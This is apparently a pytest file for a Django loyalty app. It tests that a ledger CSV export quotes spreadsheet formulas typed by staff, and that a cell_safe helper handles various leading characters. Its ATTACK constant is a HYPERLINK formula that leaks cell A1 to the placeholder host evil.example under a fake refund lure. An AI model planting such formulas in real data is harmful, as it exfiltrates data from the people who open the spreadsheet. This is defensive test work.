"""The ledger's CSV opens in a spreadsheet without running what staff typed."""

import csv
import io

import pytest
from django_tenants.utils import schema_context

from loyalty.csvexport import cell_safe
from points.models import Membership
from rewards.models import Reward
from rewards.services import redemption_create
from tenants.demo import DEMO_PASSWORD
from tests.api import api, staff_sign_in

from .test_pages import HOST, signed_in

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'


def exported(query: str) -> list[dict[str, str]]:
    response = signed_in("manager").get(f"/admin/points/ledgerentry/export.csv?{query}")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.DictReader(io.StringIO(body)))


def test_a_reject_reason_typed_as_a_formula_is_exported_as_text(demo) -> None:
    with schema_context("cafe_aroma"):
        reward = Reward.objects.filter(is_active=True, min_tier=None).order_by("points_cost")[0]
        member = Membership.objects.filter(current_points__gte=reward.points_cost).earliest("pk")
        redemption = redemption_create(membership_id=member.pk, reward_id=reward.pk)
    staff = staff_sign_in(HOST, "manager@cafe-aroma.demo", DEMO_PASSWORD)

    rejected = api(HOST, staff["access"]).post(
        f"/api/v1/staff/redemptions/{redemption.pk}/reject", {"reason": ATTACK}, format="json"
    )
    assert rejected.status_code == 200, rejected.content

    rows = exported(f"q={member.member_number}")
    refund = next(r for r in rows if r["kind"] == "refund" and r["reason"].endswith(ATTACK))
    redeem = next(r for r in rows if r["id"] == str(redemption.redeem_entry_id))
    assert refund["reason"] == "'" + ATTACK
    assert refund["points"] == str(reward.points_cost)
    # A debit stays a number the spreadsheet can sum.
    assert redeem["points"] == str(-reward.points_cost)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+962791112233", "'+962791112233"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Birthday cake", "Birthday cake"),
        ("", ""),
        (None, ""),
        (-100, -100),
    ],
)
def test_only_text_that_a_spreadsheet_would_run_is_quoted(value, written) -> None:
    assert cell_safe(value) == written
